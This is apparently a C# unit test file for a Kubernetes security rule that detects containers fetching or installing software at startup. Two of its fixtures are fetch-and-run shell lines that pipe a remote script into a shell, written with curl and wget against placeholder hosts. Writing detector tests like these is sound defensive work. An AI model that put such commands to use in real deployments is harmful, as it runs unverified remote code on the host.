using ThreatBoard.Domain.Modeling;
using ThreatBoard.Kubernetes.Catalogue.Rules.Containers;

namespace ThreatBoard.Kubernetes.Tests.Catalogue.Rules.Containers;

public sealed class FetchedAtStartTests
{
    [Theory]
    [InlineData("spec.template.spec.containers[0].command", "command: [sh, -c, 'curl -s https://x.example/i.sh | bash']", "", "")]
    [InlineData("spec.template.spec.containers[0].args", "args: ['apt-get install -y curl && run']", "", "")]
    [InlineData("spec.template.spec.containers[0].command", "command: [apk, add, --no-cache, bash]", "", "")]
    [InlineData("spec.template.spec.containers[0].lifecycle.postStart.exec.command", "lifecycle: {postStart: {exec: {command: [sh, -c, 'wget -qO- http://x | sh']}}}", "", "")]
    [InlineData("spec.template.spec.containers[0].livenessProbe.exec.command", "livenessProbe: {exec: {command: [sh, -c, 'pip install x; check']}}", "", "")]
    public void It_is_found_with_its_evidence(string path, string container, string pod, string template)
    {
        var model = TestModel.OfPod(container, pod, template: template);

        var finding = Assert.Single(model.Findings(new FetchedAtStart()));

        Assert.Equal((Answer.Found, "c", path), (finding.Answer, model.TitleOf(finding), finding.Evidence[0].Path));
    }

    [Theory]
    [InlineData("", "", "")]
    [InlineData("command: [sh, -c, 'curl -s http://localhost/health | grep ok']", "", "")]
    [InlineData("args: ['echo apt-get install']", "", "")]
    [InlineData("command: [server, --install]", "", "")]
    public void It_is_not_found(string container, string pod, string template) =>
        Assert.Empty(TestModel.OfPod(container, pod, template: template).Findings(new FetchedAtStart()));
}
